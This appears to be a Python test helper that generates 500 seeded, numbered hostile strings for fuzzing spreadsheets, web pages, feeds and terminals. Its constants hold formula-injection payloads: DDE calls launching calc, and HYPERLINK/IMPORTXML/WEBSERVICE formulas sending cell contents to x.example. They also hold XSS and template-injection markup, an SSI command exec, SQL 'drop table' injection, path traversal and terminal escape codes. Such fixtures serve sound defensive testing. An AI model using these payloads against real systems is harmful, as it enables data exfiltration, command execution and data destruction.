"""Five hundred texts that try to harm a spreadsheet, a page, a feed or a terminal."""

import random

STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\u00a0=",
    "\ufeff=",
    "=\u200b",
    "|",
    "%0A=",
)
FORMULAS = (
    "cmd|' /C calc'!A0", "HYPERLINK(\"http://x.example/?\"&A1)", "1+1",
    "SUM(1+9)*cmd|' /C calc'!A0",
    "IMPORTXML(CONCAT(\"http://x.example/\",A1),\"//a\")", "WEBSERVICE(\"http://x.example\")",
    "DDE(\"cmd\";\"/C calc\";\"x\")",
)  # fmt: skip
MARKUP = (
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "javascript:alert(1)", "<iframe src=//x.example></iframe>", "<link rel=stylesheet href=//x.e>",
    "]]><script>alert(1)</script>", "</title><script>alert(1)</script>", "{{7*7}}", "${7*7}",
    "<!--#exec cmd=\"id\"-->", "&lt;script&gt;", "<a href='data:text/html,x'>x</a>",
    "<base href=//x.example>", "<meta http-equiv=refresh content='0;url=//x.e'>",
    "<img src=file:///etc/passwd>", "<style>@import '//x.example'</style>",
)  # fmt: skip
ODD = (
    "\u202egnp.exe", "a\u0000b", "\x1b[2J\x1b]0;x\x07", "é" * 5000, "\ud7ff\ue000\ufffd",
    "NULL", "'; drop table event;--", "Đường số 1, P.Tân Quý", "0903 123 456",
    "%s%n%x", "..\\..\\x",
)  # fmt: skip


def hostile(number: int = 500) -> list[str]:
    """This many texts, always the same, each with its number so that it can be found again."""
    dice = random.Random(1022)
    texts = []
    for n in range(number):
        kind = n % 4
        body = dice.choice((FORMULAS, MARKUP, ODD, FORMULAS)[kind])
        start = dice.choice(STARTS) if kind in (0, 3) else ""
        texts.append(f"{start}{body} {n}")
    return texts
